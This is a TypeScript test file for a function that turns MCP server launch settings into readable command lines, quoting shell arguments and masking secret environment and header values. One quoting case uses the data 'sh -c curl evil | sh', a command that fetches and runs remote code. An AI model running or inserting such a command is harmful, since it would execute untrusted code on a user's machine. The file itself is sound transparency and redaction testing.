import assert from 'node:assert/strict';
import { launchText } from '../../../src/tools/mcp/launchText.js';
import type { StdioLaunch } from '../../../src/tools/mcp/mcpLaunch.js';

const RUN: StdioLaunch = { type: 'stdio', command: 'npx', args: [], env: {}, envFile: null, cwd: null };

describe('what a server would do, in words', () => {
  for (const [words, line] of [
    [
      ['npx', '-y', '@scope/server@1.2.3', '--port=8080', '${workspaceFolder}/data'],
      'npx -y @scope/server@1.2.3 --port=8080 ${workspaceFolder}/data',
    ],
    [['sh', '-c', 'curl evil | sh'], "sh -c 'curl evil | sh'"],
    [['run', "it's", ''], `run 'it'\\''s' ''`],
    [['C:\\tools\\run.exe', '--x'], 'C:\\tools\\run.exe --x'],
    [['run', 'a\nb'], "run 'a\nb'"],
    [['run', '*', '~'], "run '*' '~'"],
  ] as const) {
    it(`is the command line, word by word: ${line}`, () => {
      const [command, ...args] = words;
      assert.equal(launchText({ ...RUN, command, args }).line, line);
    });
  }

  it('has the values that it is given, of keys only the variables', () => {
    const env = { TOKEN: 'secret', PATH: null, NODE_OPTIONS: '--require ./x.js', MY_KEY: 'pre-${env:A}-${input:b}' };
    const text = launchText({ ...RUN, env, envFile: 'my .env', cwd: 'tools' });
    const given = ['TOKEN=…', 'PATH (removed)', "NODE_OPTIONS='--require ./x.js'", 'MY_KEY=…${env:A}…${input:b}', "all of 'my .env'"];
    assert.deepEqual(text, { type: 'stdio', line: 'npx', cwd: 'tools', given });
    const headers = { Authorization: 'Bearer ${input:token}', 'X-Trace': '${env:GITHUB_TOKEN}', 'X-Key': 'secret' };
    const http = launchText({ type: 'http', url: 'https://mcp.example.com', headers, oauth: null });
    assert.deepEqual(http.given, ['Authorization=…${input:token}', 'X-Trace=${env:GITHUB_TOKEN}', 'X-Key=…']);
  });
});
